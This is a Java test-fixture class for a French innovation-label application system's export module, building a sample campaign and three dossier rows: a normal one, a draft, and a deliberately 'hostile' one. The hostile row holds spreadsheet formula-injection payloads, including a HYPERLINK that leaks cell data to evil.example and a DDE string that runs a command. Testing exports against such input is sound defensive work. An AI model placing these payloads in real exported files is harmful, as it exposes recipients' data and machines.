package fr.interconnectes.candidatures.reporting;

import fr.interconnectes.candidatures.domain.candidacy.Decision;

import fr.interconnectes.candidatures.domain.Campaign;
import fr.interconnectes.candidatures.domain.JuryGrid;
import fr.interconnectes.candidatures.domain.LocalizedText;
import fr.interconnectes.candidatures.domain.Region;
import fr.interconnectes.candidatures.domain.Track;
import fr.interconnectes.candidatures.domain.UploadLimits;
import fr.interconnectes.candidatures.domain.candidacy.CandidacyStatus;
import fr.interconnectes.candidatures.domain.candidacy.OrganisationKind;
import java.math.BigDecimal;
import java.time.Instant;
import java.time.ZoneId;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** A campaign of the common grid and three dossiers: scored and accented, hostile, a bare draft. */
public final class Samples {

    public static final String EVIAN = "Communauté de communes du Pays d'Évian";

    private Samples() {
    }

    public static Campaign campaign() {
        return new Campaign("aura-2019-label",
                new LocalizedText("Label Territoires Innovants 2019 — Auvergne-Rhône-Alpes",
                        "Innovative Territories Label 2019 — Auvergne-Rhône-Alpes"),
                new Region("ARA", "Auvergne-Rhône-Alpes"), Track.LABEL, 2019,
                Instant.parse("2019-09-01T00:00:00+02:00"), Instant.parse("2019-10-10T23:59:59+02:00"),
                ZoneId.of("Europe/Paris"), null, JuryGrid.common(), UploadLimits.defaults());
    }

    /** Scored, finalist, accents and a summary with a quote, a semicolon and a line break. */
    public static ExportRow evian() {
        Map<String, BigDecimal> criteria = new LinkedHashMap<>();
        criteria.put("innovation", new BigDecimal("8.25"));
        criteria.put("user_focus", new BigDecimal("7.5"));
        criteria.put("partnership", new BigDecimal("6.333"));
        criteria.put("pooling_interoperability", new BigDecimal("9"));
        criteria.put("return_on_investment", new BigDecimal("5.125"));
        return new ExportRow("ARA-2019-L-0042", "c-evian", CandidacyStatus.SUBMITTED, EVIAN, OrganisationKind.EPCI,
                "200067551", "Hélène Dupré", "helene.dupre@cc-pays-evian.fr", "+33450338888",
                "Guichet numérique « Évian connecté »",
                "Un guichet unique; des démarches \"en ligne\"\net un accueil physique.",
                Instant.parse("2019-10-10T21:59:59Z"), 3, 1, new BigDecimal("12.5"), 4, new BigDecimal("1.25"),
                criteria, Decision.Outcome.FINALIST);
    }

    /** Every text field a formula; a negative score that must stay a number. */
    public static ExportRow hostile() {
        Map<String, BigDecimal> criteria = new LinkedHashMap<>();
        criteria.put("innovation", new BigDecimal("-1.5"));
        return new ExportRow("ARA-2019-L-0043", "c-hostile", CandidacyStatus.SUBMITTED,
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")", OrganisationKind.COMMUNE,
                "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3@evil.example", "\t=1+1", "-2+3", "=1+1",
                Instant.parse("2020-01-16T22:59:00Z"), 0, 2, new BigDecimal("-1.5"), 1, null, criteria,
                Decision.Outcome.NOT_SELECTED);
    }

    /** Nothing filled in, never submitted, never scored. */
    public static ExportRow draft() {
        return new ExportRow(null, "c-draft", CandidacyStatus.DRAFT, null, null, null, null, null, null, null, null,
                null, 0, null, null, 0, null, null, null);
    }

    public static List<ExportRow> rows() {
        return List.of(evian(), hostile(), draft());
    }
}
